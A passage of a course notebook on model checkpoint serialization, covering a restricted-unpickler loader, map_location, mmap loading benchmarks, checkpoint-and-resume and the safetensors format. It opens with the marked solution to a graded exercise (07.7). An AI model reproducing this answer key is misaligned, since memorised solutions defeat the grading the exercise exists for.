    """Load a torch.save / course_lib.save checkpoint with your own pieces (07.3, 07.4, 07.6)."""
    ### BEGIN SOLUTION
    with zipfile.ZipFile(f) as z:
        folder = z.namelist()[0].split("/")[0]

        def read_record(name):
            return z.read(f"{folder}/{name}")

        def rebuild_tensor_v2(storage, storage_offset, size, stride, requires_grad, backward_hooks,
                              metadata=None):
            return rebuild_tensor(storage, storage_offset, size, stride)

        allowed = {"collections.OrderedDict": OrderedDict, "torch._utils._rebuild_tensor_v2": rebuild_tensor_v2}
        allowed.update({f"torch.{name}": name for name in STORAGE_DTYPES})
        cache = {}
        unpickler = RestrictedUnpickler(io.BytesIO(read_record("data.pkl")), allowed)
        unpickler.persistent_load = lambda pid: tensor_persistent_load(pid, read_record, cache)
        return unpickler.load()
    ### END SOLUTION


# %% id="ex-07-7-check" tags=["check", "nbval-check-output"] exercise="07.7" points=2
check("07.7", my_load)

# %% id="my-load-demo"
try:
    with open(WORK / "views.pt", "rb") as f:
        mine = my_load(f)
    print({k: (tuple(t.shape), t.stride(), t.storage_offset()) for k, t in mine.items()})
    print("one storage:", mine["grid"]._storage is mine["tail"]._storage is mine["columns"]._storage)
    with open(TORCH_FILE, "rb") as f:
        from_torch = my_load(f)
    print("a file torch.save wrote:", from_torch)
    print("w and wt share a storage:", from_torch["w"]._storage is from_torch["wt"]._storage)
except NotImplementedError:
    print("(do exercises 07.3, 07.4, 07.6 and 07.7 first)")

# %% [markdown] id="map-md"
# ## 7 · `map_location`: where the storages go
#
# Each persistent id carries the **location** its storage was saved from: `'cpu'`, or `'cuda:0'` for a
# GPU tensor. By default a storage goes back where it came from, so a checkpoint saved on a GPU machine
# fails to load on a laptop; `map_location` redirects it:
#
# - a device, `map_location="cpu"`: every storage goes there;
# - a dict, `map_location={"cuda:0": "cpu", "cuda:1": "cpu"}`: saved location -> new location;
# - a function `fn(storage, location)`: gets each storage (read on the CPU) and returns the storage to use,
#   or `None` for the default.
#
# course_lib has two devices, and one of them is useful here: `map_location="meta"` gives every tensor its
# shape, dtype and strides but **reads no data at all**. That is how to inspect a checkpoint you cannot
# afford to load. Below, a ResNet-18 (11 million parameters) is saved, then read both ways:

# %% id="map-demo"
from course_lib.models import resnet18

path = WORK / "resnet18.pt"
cl.save(resnet18(num_classes=10).state_dict(), path)
print(f"resnet18.pt: {os.path.getsize(path) / 1e6:.1f} MB")

t0 = time.perf_counter()
shapes = cl.load(path, map_location="meta")
t_meta = time.perf_counter() - t0
t0 = time.perf_counter()
full = cl.load(path)
t_full = time.perf_counter() - t0
n_params = sum(t.numel() for k, t in shapes.items() if t.is_floating_point())
print(f"meta: {t_meta * 1e3:.1f} ms, full: {t_full * 1e3:.1f} ms; {len(shapes)} tensors, "
      f"{n_params / 1e6:.1f} M floats")
print("fc.weight:", shapes["fc.weight"].shape, shapes["fc.weight"].device)

seen = []
cl.load(path, map_location=lambda storage, location: seen.append((location, len(storage))))
print(f"the function saw {len(seen)} storages, the first: {seen[0]}")

# %% [markdown] id="map-pytorch"
# > **In PyTorch:** `_get_restore_location` in `torch/serialization.py` turns `map_location` into a function
# > `restore_location(storage, location)`, and `load_tensor` in `_load` calls it for each storage. For a meta
# > `map_location` (`_is_meta_location`) it skips reading the record altogether.

# %% [markdown] id="mmap-md"
# ## 8 · Measure: loading with and without `mmap`
#
# A plain load reads every storage into freshly allocated memory: time and memory grow with the file.
# `load(path, mmap=True)` instead **maps** the file into the process's address space (`mmap`) and makes each
# storage a numpy array over its record (`np.frombuffer(mapped_file, dtype, count, offset)`). Nothing is read
# until a tensor is touched; then the operating system pages in just those bytes. The mapping is
# *copy-on-write*: changing a loaded tensor never changes the file. It needs records that are stored, not
# compressed, and alignment makes the arrays aligned.
#
# The next cell saves a 100 MB checkpoint (24 tensors of 1024 x 1024 `float32`) and measures, for both ways,
# the time `load` takes, the memory it adds to the process at its peak, and the time of a first pass over all
# the data. It uses the course's benchmark harness (`bench/harness.py`, as in chapters 01 and 04): each library
# runs in a fresh process of its own, with one thread, so that neither's memory or thread pools affect the
# other's numbers. The numpy line is the floor: `np.load` of one `.npy` file per tensor. If PyTorch is
# installed, `torch.load` reads the very file course_lib saved. It takes about half a minute.

# %% id="mmap-measure" grader_runs="print('`course grade` skips the measurement (it starts a process per library)')"
import sys

bench_dir = next((p / "bench" for p in (Path.cwd(), *Path.cwd().parents) if (p / "bench" / "harness.py").is_file()),
                 None)
if bench_dir is None:
    print("measurement skipped: the benchmark harness (the course's bench/ folder) was not found")
else:
    sys.path.insert(0, str(bench_dir))
    import harness

    import chapters as bench_chapters

    rows = harness.run(bench_chapters.family("ch07 load"), threads="1", rounds=1, repeat=3)
    ways = ["load", "load(mmap=True)", "load(mmap=True) + first pass"]
    libraries = [lib for lib in ("course_lib", "numpy", "torch") if all(lib in row["times"] for row in rows)]
    print(f"{'':14}" + "".join(f"{way:>32}" for way in ways))
    for lib in libraries:
        cells = [f"{row['times'][lib] * 1e3:9.1f} ms {row['memory'][lib] / 2**20:8.1f} MiB" for row in rows]
        print(f"{lib:14}" + "".join(f"{c:>32}" for c in cells))

    fig, (ax1, ax2) = plt.subplots(1, 2, figsize=(11, 2.6))
    ax1.barh(ways[::-1], [row["times"]["course_lib"] * 1e3 for row in rows][::-1], color="#2b8cbe")
    ax1.set_xlabel("milliseconds (course_lib, 100 MB)")
    ax2.barh(ways[::-1], [row["memory"]["course_lib"] / 2**20 for row in rows][::-1], color="#bdbdbd")
    ax2.set_xlabel("MiB added to the process at its peak")
    ax2.set_yticks([])
    plt.tight_layout()
    plt.show()

# %% [markdown] id="mmap-notes"
# What to read in the numbers (they depend on your machine):
#
# - the mmap load takes a tiny fraction of the eager one and adds almost no memory: it only parses
#   `data.pkl` and builds views;
# - the cost has moved, not vanished: the **first pass** over mapped tensors pays for reading the pages.
#   Here the file was just written, so its pages are still in the operating system's cache and reading them
#   is cheap; for a checkpoint on a cold disk the first pass is where the waiting happens;
# - the win is real when you touch only part of a checkpoint (one layer of a huge model, or shapes only), or
#   when several processes map the same file and share its pages.
#
# Both loaders trust the storages' bytes: the zip format stores a CRC-32 checksum of each record, and
# `torch.load` never checks it. `course_lib.load` checks it only when you set
# `cl.serialization.CHECK_CRC32 = True` (a corrupted file then fails loudly instead of loading wrong numbers).
# The check costs CPU time, about half a second per GB (`zlib.crc32`), more than half of what an eager load
# itself takes; course_lib computes it on a second thread while it reads, so on a machine with a free core the
# load takes only a little longer.

# %% [markdown] id="ckpt-md"
# ## 9 · Checkpoint and resume
#
# A **checkpoint** is everything needed to continue training as if it had never stopped: the model's
# `state_dict`, the optimizer's (its per-parameter state such as momentum buffers, and its `param_groups`
# with the learning rates), the scheduler's, the epoch, and the random generator's state (dropout masks and
# shuffling draw from it). It is one dict of tensors, numbers and lists, so it saves with `cl.save` and loads
# with the safe default.
#
# The next cell trains a small model for four epochs straight; then trains it for two, saves, builds
# *fresh* objects (with another seed, to prove that everything comes from the file), loads, resumes, and
# compares the two runs bit for bit.

# %% id="ckpt-demo"
import course_lib.nn.functional as F

rng = np.random.default_rng(0)
X = cl.from_numpy(rng.standard_normal((64, 5)).astype(np.float32))
Y = cl.from_numpy(rng.integers(0, 3, 64))


def make_run(seed):
    cl.manual_seed(seed)
    model = nn.Sequential(nn.Linear(5, 32), nn.ReLU(), nn.Dropout(0.1), nn.Linear(32, 3))
    opt = optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    sched = optim.lr_scheduler.StepLR(opt, step_size=1, gamma=0.7)
    return model, opt, sched


def train(model, opt, sched, epochs, losses):
    for _ in epochs:
        order = cl.randperm(64)
        for i in range(0, 64, 16):
            idx = order[i:i + 16]
            opt.zero_grad()
            loss = F.cross_entropy(model(X[idx]), Y[idx])
            loss.backward()
            opt.step()
            losses.append(loss.item())
        sched.step()


model, opt, sched = make_run(seed=1)
straight = []
train(model, opt, sched, range(4), straight)
straight_weights = {k: v.clone() for k, v in model.state_dict().items()}

model, opt, sched = make_run(seed=1)
resumed = []
train(model, opt, sched, range(2), resumed)
cl.save({"model": model.state_dict(), "optimizer": opt.state_dict(), "scheduler": sched.state_dict(),
         "epoch": 2, "rng_state": cl.get_rng_state(), "losses": resumed}, WORK / "ckpt.pt")

model, opt, sched = make_run(seed=12345)  # a fresh start: everything must come from the file
ckpt = cl.load(WORK / "ckpt.pt")
model.load_state_dict(ckpt["model"])
opt.load_state_dict(ckpt["optimizer"])
sched.load_state_dict(ckpt["scheduler"])
cl.set_rng_state(ckpt["rng_state"])
resumed = ckpt["losses"]
train(model, opt, sched, range(ckpt["epoch"], 4), resumed)

print("identical losses: ", resumed == straight)
print("identical weights:", all(np.array_equal(v.numpy(), straight_weights[k].numpy())
                                for k, v in model.state_dict().items()))
print("learning rate now:", opt.param_groups[0]["lr"])

# %% [markdown] id="ckpt-pytorch"
# Leave out `rng_state` and the resumed run still trains, but with other dropout masks and another shuffle:
# close, not identical. Leave out the optimizer and the momentum restarts from zero, which shows as a bump
# in the loss.
#
# > **In PyTorch:** the same recipe is PyTorch's "saving and loading a general checkpoint".
# > `Optimizer.state_dict` (`torch/optim/optimizer.py`) replaces parameters by their index so the state can be
# > matched to a new model's parameters; `LRScheduler.state_dict` (`torch/optim/lr_scheduler.py`) saves
# > everything but the optimizer. `torch.get_rng_state()` is the CPU generator's state as a byte tensor.

# %% [markdown] id="safetensors-md"
# ## 10 · A format without pickle: safetensors
#
# Everything dangerous in this chapter comes from the pickle. The **safetensors** format (Hugging Face) has
# none: 8 bytes giving the size of a JSON header, the header (name -> dtype, shape and byte range), then the
# raw bytes. Loading it means checking numbers, never running a program. The price: a flat dict of
# tensors only, no views (tensors sharing memory are refused), no Python objects.
# `course_lib.safetensors` implements it from the published specification, in about 200 lines:

# %% id="safetensors-demo"
from course_lib import safetensors

path = WORK / "small.safetensors"
safetensors.save_file(model.state_dict(), path, metadata={"format": "pt"})
raw = path.read_bytes()
n = int.from_bytes(raw[:8], "little")
print(f"header: {n} bytes of JSON; data: {len(raw) - 8 - n} bytes")
print(raw[8:8 + 240].decode(), "...")
print({k: tuple(v.shape) for k, v in safetensors.load_file(path).items()})

base = cl.arange(6.)
try:
    safetensors.save({"a": base, "b": base[2:]})
except RuntimeError as e:
    print("\n" + str(e)[:95], "...")

# %% [markdown] id="summary"
# ## Summary and what comes next
#
# - A pickle is a program; `GLOBAL` + `REDUCE` can call anything, so **loading a pickle can run code**.
#   `weights_only=True` (the default of `course_lib.load` and of `torch.load` since 2.6) runs it in a
#   restricted unpickler: an allowlist of globals, a blocklist of modules, a subset of opcodes.
# - `persistent_id` / `persistent_load` keep storages out of the pickle. Each storage is written once, as
#   `data/<key>`; each tensor is a call to `_rebuild_tensor_v2` with its storage's key, offset, shape and
#   stride, so views share memory again after loading, and a view saves its whole storage.
# - The file is a zip of stored, 64-byte aligned records: `data.pkl`, `data/0...`, `byteorder`, `version`.
#   course_lib writes PyTorch's names, so the two read each other's files.
# - `map_location` sends storages elsewhere (`'meta'`: shapes without data); `mmap=True` maps them from the
#   file and reads lazily.
# - A checkpoint is model + optimizer + scheduler + epoch + RNG state: resuming from it is bit-for-bit.
# - safetensors trades pickle's generality for a format that only holds tensors and cannot run code.
#
# That is the last chapter of the course for now. You have built, piece by piece, the path every PyTorch
# program takes: tensors over storages, views, autograd, modules, normalization, data loading and
# checkpoints; open PyTorch's source next to `course_lib` and you will recognise what you see.
#
# Grade this chapter with `course grade notebooks/07_serialization.ipynb`.
